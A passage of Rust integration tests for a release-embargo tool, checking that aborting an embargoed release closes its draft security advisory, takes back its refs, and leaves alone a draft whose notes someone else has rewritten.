    assert_eq!(kinds, ["delete-refs", "delete-draft", "close-advisory"]);

    let abort = w.embargo(&["abort", w.p()]);
    abort.expect(0);
    assert!(
        abort.stderr.contains("closed the draft security advisory"),
        "{}",
        abort.stderr
    );
    assert_eq!(w.gh.advisories()[0].state, "closed");
    w.embargo(&["run", w.p(), "--embargo", &at]).expect(0);
    let states: Vec<String> = w.gh.advisories().into_iter().map(|a| a.state).collect();
    assert_eq!(states, ["closed", "draft"]);
    w.no_violations();
}

/// The draft an abort would delete must still be this release's: its notes rewritten without the
/// mark this release staged it with (someone else's now), or deleted by hand, it is left alone
/// and said so; the release's refs are taken back all the same.
#[test]
fn abort_leaves_a_draft_that_is_no_longer_this_releases_alone_and_says_so() {
    let w = World::new();
    w.embargo(&["run", w.p(), "--embargo", &embargo_in(3600)])
        .expect(0);
    let release = w.one_release_with_the_built_assets();
    w.gh.set_release_body(release.id, "Someone else's notes now.");
    let dry = w.embargo(&["abort", w.p(), "--dry-run"]);
    dry.expect(0);
    assert!(!dry.stdout.contains("DELETE"), "{}", dry.stdout);
    assert!(
        dry.stdout.contains("and leave alone: the release") && dry.stdout.contains("lack the mark"),
        "{}",
        dry.stdout
    );
    let abort = w.embargo(&["abort", w.p(), "--json"]);
    let json = crate::common::pin::json_named("abort", "abort_leaves_a_draft_json", &abort);
    assert_eq!(
        json["left_alone"].as_array().map(Vec::len),
        Some(1),
        "{json}"
    );
    assert_eq!(w.gh.releases().len(), 1, "the draft was deleted");
    assert!(
        w.gh.requests().iter().all(|r| r.method != "DELETE"),
        "a DELETE was sent"
    );
    w.no_violations();
}
